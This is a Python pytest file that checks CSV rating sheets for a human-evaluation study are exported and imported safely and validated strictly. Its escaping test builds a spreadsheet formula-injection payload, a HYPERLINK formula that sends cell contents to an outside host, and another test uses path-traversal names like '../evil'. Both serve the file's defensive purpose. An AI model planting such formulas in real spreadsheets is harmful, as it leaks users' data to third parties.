"""Raters' sheets: what comes in is right, or nothing does."""

import csv
import io
import json
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from got_r1.audit.kits import kits
from got_r1.audit.sheets import (
    _escape,
    _Faults,
    _score,
    _unescape,
    blank_sheet,
    export_sheet,
    import_sheets,
    read_items,
    read_ratings,
)
from got_r1.audit.study import build_study
from got_r1.errors import BadInput


@pytest.fixture
def study(make_run, tmp_path) -> Path:
    build_study([("ours", make_run("ours", steps=1))], tmp_path / "study", items=10)
    return tmp_path / "study"


def import_one(study: Path, sheet: Path, rater: str | None = None, **how: bool) -> list[dict]:
    return import_sheets(study, [sheet], rater, **how)


def rows(path: Path) -> list[dict[str, str]]:
    return list(csv.DictReader(path.read_text(encoding="utf-8").splitlines()))


def write(path: Path, some: list[dict[str, str]], delimiter: str = ",") -> Path:
    out = io.StringIO()
    writer = csv.DictWriter(out, list(some[0]), delimiter=delimiter)
    writer.writeheader()
    writer.writerows(some)
    path.write_text(out.getvalue(), encoding="utf-8")
    return path


def filled(study: Path, rater: str = "ann", **scores: str) -> Path:
    """A sheet with every cell rated."""
    sheet = study.parent / f"{rater}.csv"
    export_sheet(study, sheet, rater)
    given = {"semantic": "7", "spatial": "10", "quality": "0"} | scores
    return write(sheet, [row | given for row in rows(sheet)])


def test_a_sheet_comes_back(study):
    (taken,) = import_one(study, filled(study, comment="fine"))
    assert taken == {"rater": "ann", "items": 10, "rated": 10, "part": 0, "missing": []}
    ratings = read_ratings(study)["ann"]
    assert len(ratings) == 10
    assert ratings["003"] == {"semantic": 7, "spatial": 10, "quality": 0, "comment": "fine"}
    # Exported again it holds what was imported, and all raters stand in one file.
    assert export_sheet(study, study.parent / "again.csv", "ann") == 10
    assert {row["semantic"] for row in rows(study.parent / "again.csv")} == {"7"}
    import_one(study, filled(study, "bob"))
    assert export_sheet(study, study.parent / "all.csv") == 20
    assert {row["rater"] for row in rows(study.parent / "all.csv")} == {"ann", "bob"}


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\n", "'="])
def test_no_cell_is_a_formula(start):
    text = f'{start}HYPERLINK("http://a.b?"&A1)'
    sheet = blank_sheet([{"id": "001", "prompt": text}], "s0")
    (row,) = csv.DictReader(io.StringIO(sheet, newline=""))
    assert row["prompt"] == f"'{text}"


@pytest.mark.parametrize("comment", ["=1+1", "-2 for the star", "@ann", "'=1", "''+1", "'quoted'"])
def test_comments_that_look_like_formulas_come_back(study, comment):
    import_one(study, filled(study, comment=_escape(comment)))
    again = study.parent / "again.csv"
    for _ in range(2):
        assert read_ratings(study)["ann"]["003"]["comment"] == comment
        export_sheet(study, again, "ann")
        assert not {row["comment"][0] for row in rows(again)} & set("=+-@")
        import_one(study, again, replace=True)


@given(st.text(alphabet="'=+-@\t\r\na1"))
def test_escaped_cells_are_harmless_and_come_back(text):
    assert _unescape(_escape(text)) == text
    assert not _escape(text).startswith(tuple("=+-@\t\r\n"))


def test_each_rater_has_an_order_of_their_own(study):
    orders = []
    for rater in ("ann", "bob", "ann"):
        export_sheet(study, study.parent / "sheet.csv", rater)
        orders.append([row["id"] for row in rows(study.parent / "sheet.csv")])
    assert orders[0] == orders[2] != orders[1]
    assert sorted(orders[0]) == sorted(orders[1])


def test_faults_are_listed_counted_and_nothing_is_taken(study):
    sheet = filled(study)
    some = rows(sheet)
    some[0]["id"] = "777"
    some[1]["id"] = some[2]["id"]
    some[3]["semantic"], some[4]["spatial"], some[5]["quality"] = "11", "-1", "6.5"
    some[6]["quality"] = ""
    write(sheet, some)
    with pytest.raises(BadInput) as error:
        import_one(study, sheet)
    message = str(error.value)
    assert "1 unknown ids (777 in line 2)" in message
    assert f"1 items rated twice ({some[2]['id']} in line 4)" in message
    assert "3 scores that are no whole number from 0 to 10 (semantic '11' in line 5" in message
    # 777's own item, line 3's own, and the four without a score
    assert "6 items without all ratings" in message
    assert read_ratings(study) == {}


def test_missing_ratings_need_a_word(study):
    sheet = filled(study)
    some = rows(sheet)
    some[0]["quality"] = " "
    write(sheet, some[:8])
    with pytest.raises(BadInput, match=r"3 items without all ratings .*give --partial"):
        import_one(study, sheet)
    (taken,) = import_one(study, sheet, partial=True)
    assert (taken["rated"], taken["part"], len(taken["missing"])) == (7, 1, 3)
    assert some[0]["id"] in taken["missing"]
    assert read_ratings(study)["ann"][some[0]["id"]]["quality"] is None


def test_sheets_of_others_are_refused_and_nothing_is_taken(study):
    ann, bob = filled(study), filled(study, "bob")
    with pytest.raises(BadInput, match=r"bob.csv holds the ratings of bob \(line 2\), not of ann"):
        import_sheets(study, [ann, bob], "ann")
    again = write(study.parent / "again.csv", rows(ann))
    with pytest.raises(BadInput, match=r"ann.csv and .*again.csv both hold the ratings of ann"):
        import_sheets(study, [ann, bob, again], replace=True)
    other = write(study.parent / "other.csv", [row | {"study": "s0"} for row in rows(bob)])
    with pytest.raises(BadInput, match=r"other.csv is a sheet of another study \(line 2: s0, this"):
        import_sheets(study, [ann, other])
    assert read_ratings(study) == {}
    assert [one["rater"] for one in import_sheets(study, [ann, bob])] == ["ann", "bob"]


def test_studies_of_before_open(study):
    """They have no id and no rubrics, and their sheets no column for it."""
    about = json.loads((study / "study.json").read_text())
    del about["id"], about["rubrics"]
    (study / "study.json").write_text(json.dumps(about))
    sheet = filled(study)
    assert rows(sheet)[0]["study"].startswith("s")
    write(sheet, [{k: v for k, v in row.items() if k != "study"} for row in rows(sheet)])
    assert import_one(study, sheet)[0]["rated"] == 10
    (page,) = kits(study, ["ann"])
    assert all("Marks:" in question["rubric"] for question in page["questions"])
    assert page["ratings"]["001"]["semantic"] == 7


def test_a_rater_is_not_overwritten_by_accident(study):
    import_one(study, filled(study))
    with pytest.raises(BadInput, match="ann has rated already"):
        import_one(study, filled(study, semantic="1"))
    import_one(study, filled(study, semantic="1"), replace=True)
    assert read_ratings(study)["ann"]["001"]["semantic"] == 1


def test_spreadsheets_change_ids_and_separators(study):
    sheet = filled(study)
    write(
        sheet, [row | {"id": row["id"].lstrip("0"), "semantic": "7,0"} for row in rows(sheet)], ";"
    )
    import_one(study, sheet)
    assert read_ratings(study)["ann"]["001"]["semantic"] == 7


def test_the_rater_may_stand_on_the_command_line(study):
    sheet = filled(study)
    write(sheet, [{k: v for k, v in row.items() if k != "rater"} for row in rows(sheet)])
    with pytest.raises(BadInput, match=r"line 2 .* names no rater"):
        import_one(study, sheet)
    (taken,) = import_one(study, sheet, "cleo")
    assert taken["rater"] == "cleo"


@pytest.mark.parametrize("name", ["../evil", ".hidden", "a/b", "x\n"])
def test_names_of_raters_are_names(study, name):
    with pytest.raises(BadInput, match="cannot be a rater's name"):
        export_sheet(study, study.parent / "sheet.csv", name)
    sheet = filled(study)
    write(sheet, [row | {"rater": name if name != "x\n" else "x y"} for row in rows(sheet)])
    with pytest.raises(BadInput, match="cannot be a rater's name"):
        import_one(study, sheet)


@pytest.mark.parametrize("content", ["", "id,semantic\n1,2\n", "id,semantic,spatial,quality\n"])
def test_files_that_are_no_sheets(study, content):
    (study.parent / "bad.csv").write_text(content)
    with pytest.raises(BadInput):
        import_one(study, study.parent / "bad.csv", "ann")


@pytest.mark.parametrize(
    ("row", "told"),
    [
        ("01,r,a cup, red,7,7,7,", r"line 2 of .*bad.csv has 8 cells where the header has 7"),
        ("01,r,a cup,7,7,7,fine,", r"line 2 of .*bad.csv has 8 cells"),
        ('01,r,"a cup"s,7,7,7,fine', r"line 2 of .*bad.csv is no CSV"),
    ],
)
def test_rows_that_do_not_fit_the_header_are_refused(study, row, told):
    path = study.parent / "bad.csv"
    path.write_text(f"id,rater,prompt,semantic,spatial,quality,comment\n{row}\n")
    with pytest.raises(BadInput, match=told):
        import_one(study, path)


@given(st.text(max_size=6) | st.integers(-3, 13).map(str))
def test_any_cell_is_a_whole_number_of_the_scale_or_a_fault(text):
    faults = _Faults()
    score = _score({"semantic": text}, "semantic", 2, faults)
    if score is None:
        assert bool(faults.bad) == bool(text.strip())
    else:
        assert 0 <= score <= 10
        assert float(text.strip().replace(",", ".")) == score
        assert not faults.bad


@pytest.mark.parametrize("mark", ["\u2028", "\u2029", "\u0085", "\x0c"])
def test_a_prompt_may_hold_marks_that_end_lines_elsewhere(make_run, tmp_path, mark):
    run = make_run("ours", steps=1)
    for path in run.glob("samples/*/*.json"):
        record = json.loads(path.read_text())
        path.write_text(json.dumps({**record, "prompt": f"{record['prompt']}{mark}\ud800"}))
    build_study([("ours", run)], tmp_path / "study", items=10)
    items = read_items(tmp_path / "study")
    assert len(items) == 10
    assert all(item["prompt"].endswith(f"{mark}\ufffd") for item in items)
    export_sheet(tmp_path / "study", tmp_path / "sheet.csv", "ann")
    (taken,) = import_one(tmp_path / "study", tmp_path / "sheet.csv", partial=True)
    assert taken["items"] == 10
